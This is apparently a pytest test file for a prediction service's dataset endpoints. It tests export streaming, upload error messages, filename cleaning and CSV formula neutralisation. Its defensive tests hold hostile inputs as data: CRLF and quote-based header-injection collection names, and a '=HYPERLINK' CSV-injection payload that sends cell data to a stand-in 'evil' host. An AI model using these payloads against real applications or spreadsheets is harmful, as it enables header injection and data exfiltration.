"""web/datasets.py in process: the list of collections, the streamed export and the answers
that say how to send a file with curl."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import urllib.parse

import pytest

from predictionservice.datasets import EXPORT_BATCH


def test_the_list_has_every_collection_with_its_count_and_no_system_database(client, mongo_db, bank_collection):
    mongo_db.a.insert_many([{"x": i} for i in range(3)])
    mongo_db["__loading_123_abc_a"].insert_one({"x": 0})  # a load in progress is no dataset
    listed = client.get("/datasets/").json()["datasets"]
    mine = [d for d in listed if d["db"] == mongo_db.name]
    assert mine == [{"dataset": f"{mongo_db.name}.a", "db": mongo_db.name, "collection": "a", "count": 3}]
    assert {"dataset": "datasets.bank", "db": "datasets", "collection": "bank", "count": 45211} in listed
    assert not {d["db"] for d in listed} & {"admin", "local", "config"}
    assert client.get("/datasets").status_code == 200


def scored(i):
    return {"score": i % 2, "probability": i / 10, "value": {"age": 30 + i, "job": "x,y" if i == 1 else "a"}}


def test_csv_export_flattens_nested_fields_and_quotes_what_needs_it(client, mongo_db):
    mongo_db.out.insert_many([scored(i) for i in range(3)])
    answer = client.get(f"/datasets/{mongo_db.name}/out/export?format=csv")
    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{mongo_db.name}.out.csv"'
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[0] == ["score", "probability", "value.age", "value.job"]
    assert rows[1:] == [["0", "0.0", "30", "a"], ["1", "0.1", "31", "x,y"], ["0", "0.2", "32", "a"]]


def test_jsonl_export_is_one_document_a_line(client, mongo_db):
    mongo_db.out.insert_many([scored(i) for i in range(3)])
    answer = client.get(f"/datasets/{mongo_db.name}/out/export", query_string={"format": "jsonl"})
    assert answer.headers["Content-Type"] == "application/x-ndjson"
    docs = [json.loads(line) for line in answer.text.splitlines()]
    assert [{k: v for k, v in d.items() if k != "_id"} for d in docs] == [scored(i) for i in range(3)]
    assert all(isinstance(d["_id"], str) for d in docs)


def test_an_export_of_a_big_collection_is_streamed_in_bounded_memory(client, bank_collection):
    """The whole of bank-full (45,211 documents, 3.7 MB of CSV) goes out a batch at a time: the
    response is a generator and the export never holds more than a batch or two (all of it as documents would be
    some 60 MB, its text alone 3.7 MB)."""
    response = client.client.get("/datasets/datasets/bank/export?format=csv", buffered=False)
    assert response.is_streamed
    tracemalloc.start()
    try:
        lines, size, chunks = 0, 0, 0
        for chunk in response.response:
            lines += chunk.count(b"\n")
            size += len(chunk)
            chunks += 1
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        response.close()
    assert lines == 45211 + 1 and chunks >= 45211 // EXPORT_BATCH
    assert size > 3_500_000
    assert peak < size / 2, f"peak {peak} bytes for a {size}-byte export"


@pytest.mark.parametrize(
    ("path", "status", "message"),
    [
        ("/datasets/nope/nothing/export", 404, "dataset 'nope.nothing' not found"),
        ("/datasets/datasets/bank/export?format=xlsx", 400, "'format' must be 'csv' or 'jsonl', not 'xlsx'"),
        ("/datasets/admin/x/export", 400, "database 'admin' is a system database"),
    ],
)
def test_a_bad_export_is_a_4xx_naming_the_problem(client, bank_collection, path, status, message):
    answer = client.get(path)
    assert answer.status_code == status
    assert answer.json()["error"]["message"].startswith(message)


CURL_ADVICE = "send the file as it is: curl -X PUT --data-binary @file.csv -H 'Content-Type: text/csv'"


def test_curl_d_and_curl_T_uploads_are_told_what_to_send(client, mongo_db):
    # curl -d @file.csv: a form content type, and the file's newlines stripped
    form = client.request("PUT", f"/datasets/{mongo_db.name}/wine", data=b"cultivar;alcohol1;14.23",
                          headers={"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
    assert form.status_code == 415 and form.json()["error"]["message"].endswith(CURL_ADVICE)
    # the same with the right header: the body is still one line
    one_line = client.request("PUT", f"/datasets/{mongo_db.name}/wine", data=b"cultivar;alcohol1;14.23",
                              headers={"Content-Type": "text/csv"})  # fmt: skip
    assert one_line.status_code == 400
    assert "'curl -d @file' strips a file's newlines" in one_line.json()["error"]["message"]
    assert one_line.json()["error"]["message"].endswith("--data-binary @file.csv -H 'Content-Type: text/csv'")
    # curl -T file.csv: no Content-Type at all
    bare = client.request("PUT", f"/datasets/{mongo_db.name}/wine", data=b"a;b\n1;2\n", content_type="")
    assert bare.status_code == 415
    assert bare.json()["error"]["message"] == (
        f"a dataset is 'text/csv' or 'application/json' (an array of objects), not 'none'; {CURL_ADVICE}"
    )
    assert "wine" not in mongo_db.list_collection_names()


HOSTILE_NAMES = {
    # a quote and ';' that, unencoded, end the filename and add a filename* of the attacker's
    "a\"; filename*=UTF-8''evil.html; x=\"": 'filename="{db}.a___filename__UTF-8__evil.html__x__.csv"',
    # not Latin-1: the header could not be written (a 500)
    "数据": "filename=\"{db}.__.csv\"; filename*=UTF-8''{db}.%E6%95%B0%E6%8D%AE.csv",
    "a\u2028b": 'filename="{db}.a_b.csv"',  # a line separator
    "a\r\nSet-Cookie: x=1": 'filename="{db}.a__Set-Cookie__x_1.csv"',  # a header of its own
}


@pytest.mark.parametrize("name", list(HOSTILE_NAMES), ids=["quote-semicolon", "non-latin-1", "u2028", "crlf"])
def test_an_export_is_saved_under_a_cleaned_name_whatever_the_collection_is_called(service, mongo_db, name):
    """Through the real server (CherryPy writes the headers): a collection created before names
    were checked, or by another program, is exported under a name of letters, digits and '._-',
    as filename (ASCII) and filename* (RFC 5987, UTF-8), never as the client's own parameters."""
    mongo_db[name].insert_one({"a": 1})
    answer = service.get(f"/datasets/{mongo_db.name}/{urllib.parse.quote(name, safe='')}/export?format=csv")
    assert answer.status_code == 200, answer.text
    disposition = "attachment; " + HOSTILE_NAMES[name].format(db=mongo_db.name)
    assert answer.headers["Content-Disposition"] == disposition
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "Set-Cookie" not in answer.headers and answer.text == "a\r\n1\r\n"


def test_csv_export_neutralises_formula_cells_and_jsonl_keeps_them(client, mongo_db):
    """OWASP CSV injection: a text cell starting = + - @ TAB or CR is run by a spreadsheet as a
    formula (=HYPERLINK(...) sends the sheet's data away); it is exported behind a single quote.
    Numbers, text with such a character later on, and the JSONL export are unchanged."""
    doc = {"=cmd": "x", "f": '=HYPERLINK("http://evil/?"&A2,"click")', "p": "+1", "m": "-2+3", "at": "@SUM(A1)"}
    doc |= {"tab": "\tx", "cr": "\rx", "n": -3, "x": -1.5, "ok": "a=b", "nested": {"v": "=1+1"}}
    mongo_db.out.insert_one(dict(doc))
    rows = list(csv.reader(io.StringIO(client.get(f"/datasets/{mongo_db.name}/out/export").text, newline="")))
    assert rows[0] == ["'=cmd", "f", "p", "m", "at", "tab", "cr", "n", "x", "ok", "nested.v"]
    assert rows[1] == [
        "x", "'" + doc["f"], "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-3", "-1.5", "a=b", "'=1+1"
    ]  # fmt: skip
    jsonl = client.get(f"/datasets/{mongo_db.name}/out/export?format=jsonl").json()
    assert {k: v for k, v in jsonl.items() if k != "_id"} == doc


@pytest.mark.parametrize("name", ["a\u2028b", "a\nb", "a\rb", "a\tb", "a\x1bb", "a\u202eb", "a\x85b"])
def test_a_name_with_a_control_character_is_refused_at_creation(client, mongo_db, name):
    """A collection name with a control character breaks log lines and headers: an upload or a
    job output refuses it naming the character; one MongoDB already holds can still be dropped."""
    path = f"/datasets/{mongo_db.name}/{urllib.parse.quote(name, safe='')}"
    upload = client.request("PUT", path, data=b"a\n1\n", headers={"Content-Type": "text/csv"})
    code = f"U+{ord(name[1]):04X}"
    assert upload.status_code == 400 and code in upload.json()["error"]["message"], upload.text
    job = {"modelkey": "m", "inputCollection": "datasets.bank", "outputCollection": f"{mongo_db.name}.{name}"}
    scoring = client.post("/predictall/", json=job)
    assert scoring.status_code == 400 and code in scoring.json()["error"]["message"], scoring.text
    assert mongo_db.list_collection_names() == []
    mongo_db[name].insert_one({"a": 1})  # made by another program
    assert client.request("DELETE", path).status_code == 204


def test_the_schema_endpoint_takes_a_persons_choices_per_feature(client, mongo_db):
    documents = [{"code": [1, 2, 30][i % 3], "city": ["Lyon", "Nice"][i % 2], "x": i * 0.5, "y": ["a", "b"][i % 2]}
                 for i in range(12)]  # fmt: skip
    mongo_db.rows.insert_many(documents)
    path = f"/datasets/{mongo_db.name}/rows/schema"
    chosen = client.get(path, params={"label": "y", "categorical": "code", "exclude": " x ,", "ignore_unknown": "city"})
    assert chosen.status_code == 200, chosen.text
    schema = chosen.json()
    assert schema["features"] == [
        {"key": "code", "values": {"1": 0, "2": 1, "30": 2}},
        {"key": "city", "values": {"Lyon": 0, "Nice": 1}, "unknown": "ignore"},
    ]
    assert {"field": "x", "reason": "left out as asked"} in schema["dropped"]
    wrong = client.get(path, params={"label": "y", "exclude": "X"})
    assert wrong.status_code == 400
    assert "'exclude': field 'X' (did you mean 'x'?) is not in the collection" in wrong.json()["error"]["message"]
